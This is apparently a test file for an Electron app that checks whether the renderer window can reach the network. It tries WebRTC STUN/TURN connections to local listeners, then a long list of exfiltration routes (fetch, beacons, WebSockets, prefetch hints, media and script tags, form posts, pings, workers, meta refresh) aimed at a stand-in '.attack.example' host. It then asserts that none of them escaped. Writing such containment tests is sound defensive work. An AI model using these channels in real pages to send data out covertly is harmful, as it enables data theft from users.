import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { readFile } from 'node:fs/promises';
import { createServer, type AddressInfo } from 'node:net';
import { join } from 'node:path';
import { expect, onTestFinished } from 'vitest';
import { test } from './app';

/** Listens on this computer for any traffic by UDP and TCP. */
async function startListeners() {
  const seen: string[] = [];
  const udp = createSocket('udp4', () => seen.push('udp'));
  udp.bind(0, '127.0.0.1');
  const tcp = createServer((socket) => {
    seen.push('tcp');
    socket.on('error', () => undefined);
  });
  tcp.listen(0, '127.0.0.1');
  await Promise.all([once(udp, 'listening'), once(tcp, 'listening')]);
  onTestFinished(() => {
    udp.close();
    tcp.close();
  });
  return { seen, udp: udp.address().port, tcp: (tcp.address() as AddressInfo).port };
}

test('WebRTC cannot connect from the window, neither by UDP nor by TCP', async ({
  sidetone: { page },
}) => {
  const { seen, udp, tcp } = await startListeners();
  const candidates = await page.evaluate(
    async (ports) => {
      const asUser = { username: 'eta', credential: 'hush' };
      const one = new RTCPeerConnection({
        iceServers: [
          { urls: `stun:127.0.0.1:${ports.udp}` },
          { urls: `turn:127.0.0.1:${ports.udp}?transport=udp`, ...asUser },
          { urls: `turn:127.0.0.1:${ports.tcp}?transport=tcp`, ...asUser },
          { urls: `turns:127.0.0.1:${ports.tcp}?transport=tcp`, ...asUser },
        ],
      });
      const other = new RTCPeerConnection();
      const found: string[] = [];
      const isGathered = new Promise<void>((resolve) => {
        one.addEventListener('icecandidate', ({ candidate }) => {
          if (candidate === null) resolve();
          else found.push(candidate.candidate);
        });
      });
      one.createDataChannel('way out');
      await one.setLocalDescription(await one.createOffer());
      await other.setRemoteDescription(one.localDescription!);
      await other.setLocalDescription(await other.createAnswer());
      await one.setRemoteDescription(other.localDescription!);
      for (const [protocol, port, type] of [
        ['udp', ports.udp, 'typ host'],
        ['tcp', ports.tcp, 'typ host tcptype passive'],
      ]) {
        const candidate = `candidate:1 1 ${protocol} 2122260223 127.0.0.1 ${port} ${type}`;
        await one.addIceCandidate({ candidate, sdpMid: '0' });
      }
      await isGathered;
      one.close();
      other.close();
      return found;
    },
    { udp, tcp },
  );
  expect(seen).toEqual([]);
  // The code does not learn the addresses of this computer either.
  expect(candidates).toEqual([]);
});

test('no request, hint or lookup for another host reaches the network', async ({
  sidetone: { app, page },
}) => {
  const file = join(app.userDataDirectory, 'net-log.json');
  await app.electron.evaluate(({ netLog }, path) => netLog.startLogging(path), file);
  await page.evaluate(async () => {
    const at = (host: string, scheme = 'https') => `${scheme}://${host}.attack.example/way-out`;
    const attempt = async (act: () => unknown) => {
      try {
        await act();
      } catch {
        // Refused, as expected.
      }
    };
    const add = (tag: string, attributes: Readonly<Record<string, string>>) =>
      attempt(() => {
        const element = document.createElement(tag);
        document.body.append(element);
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
        if (element instanceof HTMLFormElement) element.submit();
        if (element instanceof HTMLAnchorElement) element.click();
      });
    const hints = ['dns-prefetch', 'preconnect', 'prefetch', 'modulepreload', 'stylesheet', 'icon'];
    for (const rel of [...hints, 'manifest']) await add('link', { rel, href: at(rel) });
    await add('link', { rel: 'preload', as: 'image', href: at('preload') });
    for (const tag of ['img', 'video', 'audio', 'iframe', 'embed', 'script']) {
      await add(tag, { src: at(tag) });
    }
    await add('object', { data: at('object') });
    await add('a', { ping: at('ping'), href: '#' });
    await add('form', { action: at('form'), method: 'post' });
    await attempt(() => fetch(at('fetch'), { mode: 'no-cors' }));
    await attempt(() => navigator.sendBeacon(at('beacon'), 'x'));
    await attempt(() => new WebSocket(at('socket', 'wss')));
    await attempt(() => new EventSource(at('events')));
    await attempt(() => new Worker(at('worker')));
    await attempt(() => new FontFace('way-out', `url(${at('font')})`).load());
    await attempt(() => navigator.serviceWorker.register(at('service-worker')));
    await attempt(() => new WebTransport(at('transport')).ready);
    await add('meta', { 'http-equiv': 'refresh', content: `0; url=${at('refresh')}` });
    // Hints are sent a moment later, without any event.
    await new Promise((resolve) => setTimeout(resolve, 500));
  });
  await app.electron.evaluate(({ netLog }) => netLog.stopLogging());
  const log = await readFile(file, 'utf8');
  expect(log).toContain('logEventTypes');
  expect([...new Set(log.match(/[\w-]+\.attack\.example/g))]).toEqual([]);
  expect(page.url()).toBe('app://bundle/index.html#');
});
